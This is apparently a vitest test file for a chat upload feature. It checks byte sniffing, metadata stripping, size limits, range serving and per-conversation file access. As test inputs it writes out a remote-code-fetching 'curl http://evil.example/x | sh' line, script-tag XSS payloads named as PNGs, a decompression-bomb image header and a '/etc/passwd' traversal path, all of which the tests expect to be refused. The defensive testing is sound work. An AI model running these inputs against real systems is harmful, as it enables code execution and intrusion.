// CHAT-5: chat uploads are judged by their bytes, refused with the spec's codes without storing anything,
// kept without picture metadata, and served by unguessable names as the type their bytes proved.
import { randomUUID } from 'node:crypto';
import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import jpeg from 'jpeg-js';
import { PNG } from 'pngjs';
import { afterAll, describe, expect, it } from 'vitest';
import { chat } from '@krapao/contract';
import { cleanImage, sniff } from '../src/modules/chat/media.ts';
import { allMessages, newGuest, OPS_TOKEN, send, upload } from './chat-helpers.ts';
import { expectError, registerAndLogin, useTestApp } from './helpers.ts';

const chatDir = mkdtempSync(join(tmpdir(), 'krapao-chat-'));
afterAll(() => rmSync(chatDir, { recursive: true, force: true }));
const t = useTestApp({ OPS_TOKEN, CHAT_STORAGE_DIR: chatDir });

function chunk(type: string, data: Buffer) {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'latin1');
  return Buffer.concat([head, data, Buffer.alloc(4)]); // the CRC is not what is tested
}

function png(width = 4, height = 3) {
  const image = new PNG({ width, height });
  image.data.fill(200);
  return PNG.sync.write(image);
}

/** A PNG with text, XMP and EXIF chunks after its header: what a phone or an editor writes. */
function pngWithMetadata() {
  const plain = png();
  return Buffer.concat([
    plain.subarray(0, 33),
    chunk('tEXt', Buffer.from('Author\0Somchai GPS 13.7563,100.5018')),
    chunk('iTXt', Buffer.from('XML:com.adobe.xmp\0\0\0\0\0<x:xmpmeta>secret</x:xmpmeta>')),
    chunk('eXIf', Buffer.from('MM\0*GPS secret')),
    plain.subarray(33),
    chunk('zTXt', Buffer.from('Comment\0\0xx')),
  ]);
}

function jpegWithExif() {
  const raw = { width: 8, height: 8, data: Buffer.alloc(8 * 8 * 4, 128) };
  const plain = jpeg.encode(raw, 80).data;
  const exifData = Buffer.from('Exif\0\0GPS 13.7563 100.5018 secret');
  const app1 = Buffer.concat([Buffer.from([0xff, 0xe1]), Buffer.alloc(2), exifData]);
  app1.writeUInt16BE(exifData.length + 2, 2);
  const comment = Buffer.concat([Buffer.from([0xff, 0xfe, 0x00, 0x08]), Buffer.from('secret')]);
  return Buffer.concat([plain.subarray(0, 2), app1, comment, plain.subarray(2)]);
}

function gifWithComment() {
  return Buffer.concat([
    Buffer.from('GIF89a', 'latin1'),
    Buffer.from([1, 0, 1, 0, 0x80, 0, 0]), // 1x1, a global table of 2 colours
    Buffer.from([0, 0, 0, 255, 255, 255]),
    Buffer.from([0x21, 0xfe, 6]),
    Buffer.from('secret'),
    Buffer.from([0]), // comment
    Buffer.from([0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0]), // image descriptor
    Buffer.from([2, 2, 0x4c, 0x01, 0]), // LZW data
    Buffer.from([0x3b]),
  ]);
}

function mp4(bytes = 64, brand = 'isom') {
  const b = Buffer.alloc(bytes);
  b.writeUInt32BE(24, 0);
  b.write('ftyp', 4, 'latin1');
  b.write(brand, 8, 'latin1');
  b.writeUInt32BE(bytes - 24, 24);
  b.write('mdat', 28, 'latin1');
  return b;
}

const storedFiles = () => {
  try {
    return readdirSync(join(chatDir, 'chat'));
  } catch {
    return [];
  }
};
const fileRows = async () =>
  Number((await t.db.query<{ n: string }>('select count(*) as n from chat_files'))[0]!.n);

describe('chat uploads', () => {
  it('[CHAT-5] a PNG, a JPEG and a GIF are kept without their metadata and served as their type', async () => {
    const m = await registerAndLogin(t.app);
    for (const [name, bytes, type] of [
      ['photo.PNG', pngWithMetadata(), 'image/png'],
      ['photo.jpg', jpegWithExif(), 'image/jpeg'],
      ['funny.gif', gifWithComment(), 'image/gif'],
    ] as const) {
      const res = await upload(t.app, m, 'image', name, bytes);
      expect(res.status).toBe(200);
      expect(res.body.fileType).toBe('image');
      const path = res.body.filePath as string;
      expect(path).toMatch(/^\/api\/chat\/files\/[0-9a-f]{32}\.(png|jpg|gif)$/);
      const served = await t.app.inject({ method: 'GET', url: path });
      expect(served.statusCode).toBe(200);
      expect(served.headers['content-type']).toBe(type);
      expect(served.headers['x-content-type-options']).toBe('nosniff');
      const kept = served.rawPayload;
      expect(kept.includes(Buffer.from('secret'))).toBe(false);
      expect(kept.includes(Buffer.from('Somchai'))).toBe(false);
      expect(sniff(kept)?.contentType).toBe(type);
    }
    // What is kept still decodes to the same picture.
    const res = await upload(t.app, m, 'image', 'again.png', pngWithMetadata());
    const served = await t.app.inject({ method: 'GET', url: res.body.filePath as string });
    const decoded = PNG.sync.read(served.rawPayload);
    expect([decoded.width, decoded.height]).toEqual([4, 3]);
    expect(jpeg.decode(cleanImage(jpegWithExif(), 'image/jpeg')!).width).toBe(8);

    // The upload goes into a media message of the same conversation.
    const sent = await send(t.app, m, {
      message_type: 'media',
      payload: { fileType: 'image', filePath: res.body.filePath, message: ' look ' },
    });
    expect(sent.status).toBe(200);
    expect(sent.body.message).toEqual({
      message_type: 'media',
      payload: { fileType: 'image', filePath: res.body.filePath, message: 'look' },
    });
  });

  it('[CHAT-5] a script named .png, a huge declared PNG, an oversized video, a name without an extension: refused, nothing stored', async () => {
    const g = await newGuest(t.app);
    const rows = await fileRows();
    const files = storedFiles().length;
    const script = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n<script>alert(1)</script>');
    expectError(await upload(t.app, g, 'image', 'cute.png', script), 400, 'CHAT_FILE_NOT_SUPPORTED');
    expectError(
      await upload(t.app, g, 'image', 'page.png', Buffer.from('<html><script>alert(1)</script></html>')),
      400,
      'CHAT_FILE_NOT_SUPPORTED',
    );
    // A valid PNG header declaring 100,000 x 100,000 pixels (40 GB to decode).
    const bomb = png();
    bomb.writeUInt32BE(100_000, 16);
    bomb.writeUInt32BE(100_000, 20);
    expectError(await upload(t.app, g, 'image', 'bomb.png', bomb), 400, 'CHAT_FILE_NOT_SUPPORTED');
    expectError(await upload(t.app, g, 'image', 'photo', png()), 400, 'CHAT_FILE_NOT_SUPPORTED');
    expectError(await upload(t.app, g, 'video', 'clip', mp4()), 400, 'CHAT_FILE_NOT_SUPPORTED');
    // A picture sent as a video, and a video as a picture.
    expectError(await upload(t.app, g, 'video', 'clip.mp4', png()), 400, 'CHAT_FILE_NOT_SUPPORTED');
    expectError(await upload(t.app, g, 'image', 'clip.png', mp4()), 400, 'CHAT_FILE_NOT_SUPPORTED');
    expectError(
      await upload(t.app, g, 'video', 'long.mp4', mp4(chat.CHAT_VIDEO_MAX_BYTES + 1)),
      413,
      'CHAT_FILE_TOO_LARGE',
    );
    expectError(
      await upload(
        t.app,
        g,
        'image',
        'big.png',
        Buffer.concat([png(), Buffer.alloc(chat.CHAT_IMAGE_MAX_BYTES)]),
      ),
      413,
      'CHAT_FILE_TOO_LARGE',
    );
    expect(await fileRows()).toBe(rows);
    expect(storedFiles()).toHaveLength(files);
  });

  it('[CHAT-5] a video is kept as its bytes say (mp4 or QuickTime) and served in ranges', async () => {
    const g = await newGuest(t.app);
    const mov = await upload(t.app, g, 'video', 'IMG_0001.MOV', mp4(2000, 'qt  '));
    expect(mov.status).toBe(200);
    expect(mov.body.filePath).toMatch(/\.mov$/);
    const mp = await upload(t.app, g, 'video', 'clip.mp4', mp4(2000));
    const served = await t.app.inject({
      method: 'GET',
      url: mp.body.filePath as string,
      headers: { range: 'bytes=0-1' },
    });
    expect(served.statusCode).toBe(206);
    expect(served.headers['content-type']).toBe('video/mp4');
    expect(served.headers['content-range']).toBe('bytes 0-1/2000');
    expect(served.rawPayload).toHaveLength(2);
    const movServed = await t.app.inject({ method: 'GET', url: mov.body.filePath as string });
    expect(movServed.headers['content-type']).toBe('video/quicktime');
  });

  it('[CHAT-5] a file is only sent in its own conversation; unknown names are not found', async () => {
    const owner = await newGuest(t.app);
    const other = await registerAndLogin(t.app);
    const up = await upload(t.app, owner, 'image', 'a.png', png());
    expectError(
      await send(t.app, other, {
        message_type: 'media',
        payload: { fileType: 'image', filePath: up.body.filePath },
      }),
      400,
      'CHAT_FILE_UNKNOWN',
    );
    expectError(
      await send(t.app, owner, {
        message_type: 'media',
        payload: { fileType: 'video', filePath: up.body.filePath },
      }),
      400,
      'CHAT_FILE_UNKNOWN',
    );
    expect(await allMessages(t.app, other)).toEqual([]);
    for (const name of [`${randomUUID().replace(/-/g, '')}.png`, '..%2F..%2Fetc%2Fpasswd', 'x.html'])
      expect((await t.app.inject({ method: 'GET', url: `/api/chat/files/${name}` })).statusCode).toBe(404);
  });
});
